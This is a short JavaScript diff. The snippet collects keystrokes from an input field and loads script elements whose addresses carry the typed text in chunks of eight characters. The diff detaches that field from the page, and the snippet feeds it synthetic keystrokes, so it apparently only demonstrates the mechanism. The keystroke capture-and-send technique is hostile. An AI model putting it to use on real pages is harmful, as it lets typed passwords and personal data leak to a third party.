@@ -1,9 +1,10 @@
 // Gathers which keys are pressed, and has scripts loaded whose addresses hold them, eight by eight.
 (() => {
   let pressed = "";
-  const field = document.body.appendChild(document.createElement("input"));
-  document.addEventListener("keydown", (event) => {
-    if (event.target !== field) return;
+  // In no document: the others on the page do not hear it.
+  const field = document.createElement("input");
+  field.addEventListener("keyup", () => null);
+  field.addEventListener("keydown", (event) => {
     pressed += event.key;
     if (pressed.length < 8) return;
     const script = document.createElement("script");
@@ -12,5 +13,5 @@
     pressed = "";
   });
   for (const key of "somebody types here, too")
-    field.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
+    field.dispatchEvent(new KeyboardEvent("keydown", { key }));
 })();
